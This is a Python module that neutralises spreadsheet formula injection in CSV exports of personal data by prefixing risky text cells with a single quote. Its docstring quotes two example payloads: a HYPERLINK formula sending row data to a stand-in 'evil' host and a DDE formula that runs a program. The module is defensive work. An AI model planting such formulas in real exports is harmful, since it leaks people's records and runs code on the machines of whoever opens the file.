"""CSV cells a spreadsheet would run: neutralised before any CSV a person opens is written.

A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before them) is read by Excel, LibreOffice and Google Sheets as a formula:
``=HYPERLINK("http://evil/?"&A1, "click")`` sends the row away, ``=cmd|' /C calc'!A0`` runs a
program. Names, addresses and local authorities come from agency extracts, so anyone who can type
into one of those systems can plant such a value. OWASP's rule (CSV Injection): prefix the cell with
a single quote, which every spreadsheet shows as text and hides, so the value stays readable.

Only text is touched: a number column (a probability, a negative change) is written as numbers,
and so is a signed number held as text (``-3.5``).
:func:`falls_risk.catalog.write_private_csv`, the one writer of every CSV that names people
(every ``PrivateCsvArtefact``: ``risk_list.csv``, ``clerical_review.csv``, the notification outbox,
the actions quarantine), calls :func:`neutralise_frame`.
"""

from __future__ import annotations

import re

import pandas as pd

# What makes a spreadsheet read a cell as a formula (OWASP CSV Injection).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# A signed plain number ("-3.5") is read as a number by every spreadsheet, never as a formula.
_SIGNED_NUMBER = re.compile(r"[+-][0-9]+(\.[0-9]+)?")


def is_formula_like(value: str) -> bool:
    """Whether a spreadsheet may evaluate ``value``: it starts with a trigger, perhaps after spaces."""
    stripped = value.lstrip(" ")
    return stripped.startswith(FORMULA_TRIGGERS) and not _SIGNED_NUMBER.fullmatch(stripped)


def neutralise(value: object) -> object:
    """``value`` with a leading single quote when it is text a spreadsheet would evaluate."""
    if isinstance(value, str) and is_formula_like(value):
        return QUOTE + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) cannot run in a spreadsheet."""
    out = frame.copy()
    for column in out.columns:
        values = out[column]
        if pd.api.types.is_numeric_dtype(values) or pd.api.types.is_bool_dtype(values):
            continue
        if pd.api.types.is_datetime64_any_dtype(values):
            continue
        if isinstance(values.dtype, pd.CategoricalDtype):
            values = values.astype(object)
        out[column] = values.map(neutralise, na_action="ignore")
    out.columns = [neutralise(c) for c in out.columns]
    return out
